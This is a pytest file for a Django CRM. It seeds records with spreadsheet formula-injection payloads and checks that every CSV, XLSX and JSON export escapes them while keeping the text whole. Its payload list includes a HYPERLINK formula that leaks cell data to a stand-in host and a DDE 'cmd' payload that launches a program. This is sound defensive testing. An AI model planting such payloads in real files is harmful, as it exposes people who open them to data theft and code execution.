"""Every CSV and XLSX the CRM hands out, downloaded through its real URL: no cell runs as a formula.

Formula payloads are typed into the text the exports show (client and contact names, positions,
addresses, e-mail addresses, subjects and results, managers' and teams' names, picklists). Each
export is downloaded by the persona allowed to, and read back with csv / openpyxl: a cell whose text
would start a formula (= + - @, or a tab or CR first, even after leading whitespace) must carry the
leading apostrophe, and every payload must come back whole, as text.
"""

from __future__ import annotations

import csv
import io
import json
import re
from itertools import cycle

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from clients.models import Client, Consent, ConsentSource, DealStage, LeadSource, PostalAddress
from clients.services import segment_create
from interactions.models import Interaction, InteractionStatus
from reports.builders import REGISTRY
from tests.deals.factories import DealFactory, stage
from tests.factories import (
    ClientFactory,
    ContactPersonFactory,
    EmailFactory,
    InteractionFactory,
    PhoneFactory,
    PlanFactory,
    status,
)

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "\u00a0=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
]
# Addresses must stay valid e-mail addresses: + - = may start a local part.
EMAIL_FORMULAS = ["=1+1@example.com", "+1+1@example.com", "-1+1@example.com"]
FORMULA_START = ("=", "+", "-", "@")
# Figures and phone numbers are data, not formulas (a spreadsheet reads them as numbers).
NUMBER = re.compile(r"-?\d+([.,]\d+)?%?|\+\d{7,15}")


def runs_as_formula(cell: str) -> bool:
    if NUMBER.fullmatch(cell):
        return False
    return cell.startswith(("\t", "\r")) or cell.lstrip().startswith(FORMULA_START)


def as_typed(cell: str) -> str:
    """The text before the export neutralised it: the apostrophe off a would-be formula."""
    return cell[1:] if cell.startswith("'") and runs_as_formula(cell[1:]) else cell


@pytest.fixture
def formula_world(team, manager, supervisor, statuses):
    """The manager's client and contact, his names, the team's picklists: all formulas."""
    payloads = cycle(FORMULAS)
    manager.first_name, manager.last_name = next(payloads), next(payloads)
    manager.save()
    team.name = next(payloads)
    team.save()
    source = LeadSource.objects.create(name=next(payloads))
    stage("new")  # seeds the stages
    DealStage.objects.filter(code="new").update(name=next(payloads))
    InteractionStatus.objects.filter(pk=status("outgoing_call", "completed").pk).update(
        name=next(payloads)
    )
    # A private person: the data-subject export covers both the client and its contact.
    client = ClientFactory(
        name=next(payloads),
        kind=Client.Kind.PERSON,
        responsible_manager=manager,
        lead_source=source,
    )
    contact = ContactPersonFactory(
        client=client,
        is_primary=True,
        last_name=next(payloads),
        first_name=next(payloads),
        middle_name=next(payloads),
        position=next(payloads),
    )
    consent = {
        "consent": Consent.GIVEN,
        "consent_at": timezone.now(),
        "consent_source": ConsentSource.PAPER,
    }
    for address in EMAIL_FORMULAS:
        EmailFactory(client=client, contact=contact, address=address, **consent)
    PhoneFactory(client=client, contact=contact, number_e164="+74951234567", **consent)
    PostalAddress.objects.create(
        client=client,
        contact=contact,
        postcode=next(payloads),
        city=next(payloads),
        street=next(payloads),
        country=next(payloads),
    )
    call = InteractionFactory(
        client=client,
        contact=contact,
        status=status("outgoing_call", "completed"),
        subject=next(payloads),
        result=next(payloads),
    )
    InteractionFactory(client=client, contact=contact, kind=Interaction.Kind.NOTE, result="-")
    DealFactory(client=client, title=next(payloads))
    PlanFactory(manager=manager)
    return {"client": client, "contact": contact, "call": call}


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def xlsx_cells(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


def assert_inert(cells: list[str], export: str) -> set[str]:
    """No cell runs as a formula; returns the cells' text as typed."""
    live = [cell for cell in cells if runs_as_formula(cell)]
    assert not live, f"{export}: these cells would run as formulas: {live}"
    return {as_typed(cell) for cell in cells}


def _report_downloads(login, supervisor):
    browser = login(supervisor)
    today = timezone.localdate().isoformat()
    for key in sorted(REGISTRY):
        for file_format, read in (("csv", csv_cells), ("xlsx", xlsx_cells)):
            url = reverse("reports:export", kwargs={"key": key, "file_format": file_format})
            response = browser.get(url, {"date_from": today, "date_to": today})
            assert response.status_code == 200, f"{url}: {response.status_code}"
            yield f"{key}.{file_format}", read(response.content)


def test_report_exports_are_inert_and_whole(formula_world, supervisor, manager, login):
    shown: set[str] = set()
    for export, cells in _report_downloads(login, supervisor):
        shown |= assert_inert(cells, export)

    # The team's name and the statuses (shown in the user's language) are not in the reports.
    expected = {str(manager), LeadSource.objects.get().name, DealStage.objects.get(code="new").name}
    missing = {text for text in expected if not any(text in cell for cell in shown)}
    assert not missing, f"the reports lost or changed: {missing}"


def test_segment_export_is_inert_and_whole(formula_world, manager, login):
    segment = segment_create(actor=manager, name="Formulas")

    response = login(manager).post(reverse("clients:segment_export", args=[segment.pk]))

    assert response["Content-Type"].startswith("text/csv")
    shown = assert_inert(csv_cells(response.content), "segment export")
    assert {formula_world["client"].name, *EMAIL_FORMULAS, "+74951234567"} <= shown


@pytest.mark.parametrize("kind", ["client", "contact"])
def test_data_subject_export_is_inert_and_whole(formula_world, kind, admin, login):
    subject = formula_world[kind]
    url = reverse("clients:person_export", args=[kind, subject.pk, "csv"])

    response = login(admin).post(url)

    assert response["Content-Type"].startswith("text/csv")
    shown = assert_inert(csv_cells(response.content), f"{kind} export")
    contact = formula_world["contact"]
    address = PostalAddress.objects.get()
    interaction = formula_world["call"]
    expected = {formula_world["client"].name, interaction.subject, interaction.result}
    expected |= {address.postcode, address.city, address.street, address.country}
    expected |= set(EMAIL_FORMULAS)
    if kind == "contact":
        expected |= {contact.last_name, contact.first_name, contact.middle_name, contact.position}
    assert expected <= shown, f"the export lost or changed: {expected - shown}"


def test_data_subject_json_export_keeps_the_text_as_data(formula_world, admin, login):
    contact = formula_world["contact"]
    url = reverse("clients:person_export", args=["contact", contact.pk, "json"])

    data = json.loads(login(admin).post(url).content)

    assert data["person"]["last_name"] == contact.last_name
    assert {email["address"] for email in data["emails"]} == set(EMAIL_FORMULAS)


@pytest.mark.parametrize("cell", ["-12", "3.5", "-0,5", "75%", "+74951234567", "Horns"])
def test_figures_and_plain_text_are_left_alone(cell):
    assert not runs_as_formula(cell)


@pytest.mark.parametrize("payload", FORMULAS)
def test_every_payload_counts_as_a_formula(payload):
    # Guards the checker above: it must see each payload as dangerous.
    assert runs_as_formula(payload)
